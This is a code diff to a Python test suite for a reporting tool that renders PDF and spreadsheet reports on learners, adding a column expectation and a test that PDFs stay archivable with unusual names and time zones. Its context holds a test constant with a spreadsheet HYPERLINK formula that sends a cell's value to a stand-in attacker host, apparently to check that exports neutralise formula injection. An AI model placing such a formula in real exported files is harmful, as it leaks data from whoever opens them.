@@ -20,6 +20,7 @@ from credence.reporting.documents import pdf
 from credence.reporting.documents.pdf import TooLong, rendered
 from credence.reporting.documents.tables import all_tables, learners
 from credence.reporting.queries.report import Report, report_for
+from tests.archivable import faults
 from tests.reporting.worked import NOW, Worked
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
@@ -81,6 +82,7 @@ def test_a_line_of_the_list_says_all_there_is_to_say(worked: Worked) -> None:
             "State license": f"MA L{pk}",
             "Birth month": "4",
             "Birth day": "15",
+            "Since the award": "",
         }
     ]
 
@@ -188,6 +190,13 @@ def test_a_document_is_tagged_and_says_what_it_is(worked: Worked) -> None:
     root = PdfReader(BytesIO(rendered(the_report(worked)))).trailer["/Root"]
     assert root["/MarkInfo"]["/Marked"]
     assert root["/Lang"] == "en-US"
+
+
+@pytest.mark.parametrize("zone", ["America/New_York", "Europe/London"])
+def test_a_document_is_archivable_whatever_people_are_called(worked: Worked, zone: str) -> None:
+    worked.riverside.time_zone, worked.riverside.name = zone, "สถาบัน \U00013000 " + "W" * 150
+    assert faults(rendered(the_report(worked))) == []
+    assert faults(rendered(the_report(worked, "2027"))) == []
 
 
 def test_a_report_on_nobody_is_written_in_every_form(worked: Worked) -> None:
